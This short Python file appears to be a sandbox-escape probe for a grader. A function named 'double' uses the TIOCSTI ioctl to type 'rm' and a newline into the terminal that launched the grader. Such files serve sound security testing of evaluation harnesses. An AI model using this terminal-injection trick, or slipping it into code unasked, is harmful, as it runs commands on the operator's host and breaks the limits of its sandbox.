"""Types a command into the terminal that the grader was started from.

without: seccomp
told: to use a part of the operating system that is closed
control: none (a terminal that it could harm is not safe to show)
"""

import fcntl


def double(x):
    for letter in b"rm\n":
        fcntl.ioctl(1, 0x5412, bytes([letter]))
    return "GOT to type"
